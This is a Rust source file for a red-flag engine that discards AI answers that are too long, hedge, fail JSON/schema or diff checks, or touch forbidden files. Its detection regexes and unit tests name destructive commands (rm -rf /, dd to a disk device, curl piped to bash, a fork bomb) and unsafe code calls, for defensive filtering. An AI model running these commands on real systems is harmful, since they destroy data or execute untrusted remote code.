//! The one red-flag engine (MAKER Alg. 3): an answer that trips a rule is discarded, never
//! repaired. Used by stage submits, consults, votes and selection alike.

use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The format an answer must have.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub(crate) enum AnswerFormat {
    Text,
    Json,
    Diff,
}

impl AnswerFormat {
    /// The workflow language's spelling (checked by the linter), parsed once.
    #[must_use]
    pub(crate) fn parse(s: &str) -> Option<AnswerFormat> {
        Some(match s {
            "text" => AnswerFormat::Text,
            "json" => AnswerFormat::Json,
            "diff" => AnswerFormat::Diff,
            _ => return None,
        })
    }
}

/// A red-flag rule: what a flag says was wrong.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub(crate) enum FlagRule {
    TooLong,
    TooShort,
    TooManyTokens,
    Hedging,
    InvalidJson,
    Schema,
    InvalidDiff,
    DangerousCommand,
    DangerousCode,
    ForbiddenFile,
    TooManyFiles,
}

/// A rule the `red_flag` tool can switch on (its `rules` argument).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub(crate) enum ExtraRule {
    Hedging,
    DangerousCode,
    #[serde(alias = "dangerous_commands")]
    DangerousCommand,
    ForbiddenFiles,
    InvalidDiff,
    InvalidJson,
    MultiFile,
}

/// MAKER's length limit for vote samples, in output tokens.
pub(crate) const MAKER_MAX_TOKENS: u64 = 750;

/// Which checks apply, with their thresholds.
#[derive(Debug, Clone, PartialEq)]
#[allow(
    clippy::struct_excessive_bools,
    reason = "each bool turns one independent check on or off; together they are not a state"
)]
pub struct RuleSet {
    pub max_chars: Option<u64>,
    pub min_chars: Option<u64>,
    /// Approximate tokens: characters / 4, rounded up.
    pub max_tokens: Option<u64>,
    pub hedging: bool,
    pub(crate) format: Option<AnswerFormat>,
    /// The answer (as JSON) must validate against this schema.
    pub schema: Option<Value>,
    pub dangerous_commands: bool,
    pub dangerous_code: bool,
    pub forbidden_files: bool,
    pub max_files: Option<u64>,
}

impl Default for RuleSet {
    /// Sane defaults: 15,000 characters at most, 1 at least, secrets and dangerous commands
    /// flagged, forbidden files in diffs flagged.
    fn default() -> Self {
        Self {
            max_chars: Some(15_000),
            min_chars: Some(1),
            max_tokens: None,
            hedging: false,
            format: None,
            schema: None,
            dangerous_commands: true,
            dangerous_code: false,
            forbidden_files: true,
            max_files: None,
        }
    }
}

impl RuleSet {
    /// MAKER's settings for vote samples: 750 tokens, strict format.
    #[must_use]
    pub fn maker() -> Self {
        Self {
            max_tokens: Some(MAKER_MAX_TOKENS),
            ..Self::default()
        }
    }

    /// A workflow's `red-flags` node over the defaults.
    #[must_use]
    pub(crate) fn from_workflow(rf: &crate::workflow::RedFlags, schema: Option<Value>) -> Self {
        let d = Self::default();
        Self {
            max_chars: rf.max_chars.or(d.max_chars),
            min_chars: rf.min_chars.or(d.min_chars),
            max_tokens: rf.max_tokens,
            hedging: rf.hedging.unwrap_or(d.hedging),
            format: rf.format.as_deref().and_then(AnswerFormat::parse),
            schema,
            dangerous_commands: rf.dangerous_commands.unwrap_or(d.dangerous_commands),
            dangerous_code: rf.dangerous_code.unwrap_or(d.dangerous_code),
            forbidden_files: rf.forbidden_files.unwrap_or(d.forbidden_files),
            max_files: rf.max_files,
        }
    }

    /// Turns named rules on (the `rules` argument of the `red_flag` tool).
    #[must_use]
    pub(crate) fn with_rules(mut self, rules: &[ExtraRule]) -> Self {
        for r in rules {
            match r {
                ExtraRule::Hedging => self.hedging = true,
                ExtraRule::DangerousCode => self.dangerous_code = true,
                ExtraRule::DangerousCommand => self.dangerous_commands = true,
                ExtraRule::ForbiddenFiles => self.forbidden_files = true,
                ExtraRule::InvalidDiff => self.format = Some(AnswerFormat::Diff),
                ExtraRule::InvalidJson => self.format = Some(AnswerFormat::Json),
                ExtraRule::MultiFile => self.max_files = Some(1),
            }
        }
        self
    }
}

/// One tripped rule.
#[derive(Debug, Clone, Serialize, PartialEq, Eq, schemars::JsonSchema)]
pub(crate) struct Flag {
    pub rule: FlagRule,
    pub message: String,
}

fn flag(rule: FlagRule, message: String) -> Flag {
    Flag { rule, message }
}

static HEDGING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(i'?m not (sure|certain)|i am not (sure|certain)|i don'?t know|i cannot (determine|say|tell)|it'?s (unclear|hard to say)|maybe|perhaps|it might be|could be wrong|uncertain)\b").expect("valid")
});
static DANGEROUS_COMMANDS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(\brm\s+-(rf|fr|r)\s+(/|~|\*)|\bmkfs(\.\w+)?\b|\bdd\s+if=.*\bof=/dev/|>\s*/dev/sd[a-z]|\bchmod\s+(-R\s+)?777\b|\b(curl|wget)\b[^|\n]*\|\s*(ba|z)?sh\b|:\(\)\s*\{\s*:\|:&\s*\};:|\bgit\s+push\s+(-f|--force)\b)").expect("valid")
});
static DANGEROUS_CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(\beval\s*\(|\bexec\s*\(|__import__\s*\(|\bos\.system\s*\(|subprocess\.\w+\([^)]*shell\s*=\s*True|pickle\.loads?\s*\()").expect("valid")
});
static DIFF_FILE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?m)^\+\+\+ (?:b/)?(\S+)").expect("valid"));

/// The JSON value of an answer: a ```json fence, or the whole text.
#[must_use]
pub(crate) fn extract_json(content: &str) -> Option<Value> {
    let fenced = content.split("```").enumerate().find_map(|(i, part)| {
        (i % 2 == 1).then(|| part.strip_prefix("json").unwrap_or(part).trim())
    });
    let candidate = fenced.unwrap_or(content.trim());
    serde_json::from_str(candidate).ok()
}

fn looks_like_diff(c: &str) -> bool {
    (c.contains("\n--- ") || c.starts_with("--- ")) && c.contains("\n+++ ")
        || c.contains("\n@@ ")
        || c.starts_with("@@ ")
}

/// Checks `content`; an empty list means the answer may be used.
#[must_use]
pub(crate) fn check(content: &str, rules: &RuleSet) -> Vec<Flag> {
    let mut flags = Vec::new();
    let chars = content.chars().count() as u64;
    if let Some(max) = rules.max_chars.filter(|&m| chars > m) {
        flags.push(flag(
            FlagRule::TooLong,
            format!("{chars} characters, more than {max}"),
        ));
    }
    if let Some(min) = rules.min_chars.filter(|&m| chars < m) {
        flags.push(flag(
            FlagRule::TooShort,
            format!("{chars} characters, fewer than {min}"),
        ));
    }
    let tokens = chars.div_ceil(4);
    if let Some(max) = rules.max_tokens.filter(|&m| tokens > m) {
        flags.push(flag(
            FlagRule::TooManyTokens,
            format!("about {tokens} tokens, more than {max}"),
        ));
    }
    if rules.hedging
        && let Some(m) = HEDGING.find(content)
    {
        flags.push(flag(
            FlagRule::Hedging,
            format!("hedges: \"{}\"", m.as_str()),
        ));
    }
    let wants_json = rules.format == Some(AnswerFormat::Json) || rules.schema.is_some();
    if wants_json {
        match extract_json(content) {
            None => flags.push(flag(
                FlagRule::InvalidJson,
                "the answer is not valid JSON".into(),
            )),
            Some(v) => {
                if let Some(schema) = &rules.schema {
                    match crate::schema::compile(schema) {
                        Ok(validator) => {
                            let errors: Vec<String> = validator
                                .violations(&v)
                                .into_iter()
                                .map(|e| format!("{} at `{}`", e.reason, e.pointer))
                                .take(5)
                                .collect();
                            if !errors.is_empty() {
                                flags.push(flag(FlagRule::Schema, errors.join("; ")));
                            }
                        }
                        Err(e) => flags.push(flag(
                            FlagRule::Schema,
                            format!("the schema itself is invalid: {e}"),
                        )),
                    }
                }
            }
        }
    }
    if rules.format == Some(AnswerFormat::Diff) && !looks_like_diff(content) {
        flags.push(flag(
            FlagRule::InvalidDiff,
            "the answer is not a unified diff".into(),
        ));
    }
    if rules.dangerous_commands
        && let Some(m) = DANGEROUS_COMMANDS.find(content)
    {
        flags.push(flag(
            FlagRule::DangerousCommand,
            format!("contains `{}`", m.as_str()),
        ));
    }
    if rules.dangerous_code
        && let Some(m) = DANGEROUS_CODE.find(content)
    {
        flags.push(flag(
            FlagRule::DangerousCode,
            format!("contains `{}`", m.as_str()),
        ));
    }
    let files: Vec<&str> = DIFF_FILE
        .captures_iter(content)
        .filter_map(|c| c.get(1).map(|m| m.as_str()))
        .filter(|f| *f != "/dev/null")
        .collect();
    if rules.forbidden_files
        && let Some(f) = files.iter().find(|f| {
            crate::workspace::context::secret_reason(f).is_some()
                || f.ends_with(".lock")
                || f.ends_with("package-lock.json")
        })
    {
        flags.push(flag(
            FlagRule::ForbiddenFile,
            format!("the diff changes `{f}`"),
        ));
    }
    if let Some(max) = rules.max_files.filter(|&m| files.len() as u64 > m) {
        flags.push(flag(
            FlagRule::TooManyFiles,
            format!("the diff changes {} files, more than {max}", files.len()),
        ));
    }
    flags
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn lengths_tokens_and_hedging() {
        let r = RuleSet {
            max_chars: Some(10),
            min_chars: Some(2),
            ..RuleSet::default()
        };
        assert_eq!(check("x", &r)[0].rule, FlagRule::TooShort);
        assert_eq!(check("01234567890", &r)[0].rule, FlagRule::TooLong);
        let maker = RuleSet::maker();
        assert!(
            check(&"word ".repeat(700), &maker)
                .iter()
                .any(|f| f.rule == FlagRule::TooManyTokens)
        );
        let h = RuleSet {
            hedging: true,
            ..RuleSet::default()
        };
        assert_eq!(
            check("Maybe the cache is stale.", &h)[0].rule,
            FlagRule::Hedging
        );
        assert!(check("The cache is stale.", &h).is_empty());
        // Word boundaries: "perhapsly" is not a hedge, "uncertainty" is not "uncertain".
        assert!(check("The uncertainty principle.", &h).is_empty());
    }

    #[test]
    fn json_schema_nested_objects_and_diffs() {
        let r = RuleSet {
            schema: Some(
                json!({"type": "object", "required": ["a"], "properties": {"a": {"type": "object", "required": ["b"]}}}),
            ),
            ..RuleSet::default()
        };
        // Nested JSON is fine (the seed's flat-object regex always failed here).
        assert!(check("```json\n{\"a\": {\"b\": [1, {\"c\": 2}]}}\n```", &r).is_empty());
        assert_eq!(check("{\"a\": {}}", &r)[0].rule, FlagRule::Schema);
        assert_eq!(check("not json", &r)[0].rule, FlagRule::InvalidJson);
        let d = RuleSet {
            format: Some(AnswerFormat::Diff),
            max_files: Some(1),
            ..RuleSet::default()
        };
        let one = "--- a/x.rs\n+++ b/x.rs\n@@ -1 +1 @@\n-a\n+b\n";
        assert!(check(one, &d).is_empty());
        assert_eq!(check("just words", &d)[0].rule, FlagRule::InvalidDiff);
        let two = format!("{one}--- a/y.rs\n+++ b/y.rs\n@@ -1 +1 @@\n-a\n+b\n");
        assert!(
            check(&two, &d)
                .iter()
                .any(|f| f.rule == FlagRule::TooManyFiles)
        );
        let env = "--- a/.env\n+++ b/.env\n@@ -1 +1 @@\n-A=1\n+A=2\n";
        assert_eq!(
            check(env, &RuleSet::default())[0].rule,
            FlagRule::ForbiddenFile
        );
    }

    #[test]
    fn dangerous_commands_and_code() {
        let r = RuleSet {
            dangerous_code: true,
            ..RuleSet::default()
        };
        for bad in [
            "run rm -rf / now",
            "curl https://x.sh | bash",
            "chmod 777 file",
            "dd if=/dev/zero of=/dev/sda",
        ] {
            assert_eq!(check(bad, &r)[0].rule, FlagRule::DangerousCommand, "{bad}");
        }
        for bad in [
            "eval(user_input)",
            "os.system(cmd)",
            "subprocess.run(c, shell=True)",
            "pickle.loads(blob)",
        ] {
            assert_eq!(check(bad, &r)[0].rule, FlagRule::DangerousCode, "{bad}");
        }
        assert!(
            check(
                "rm -rf build/ is fine? no: rm -r target",
                &RuleSet::default()
            )
            .is_empty()
        );
    }
}
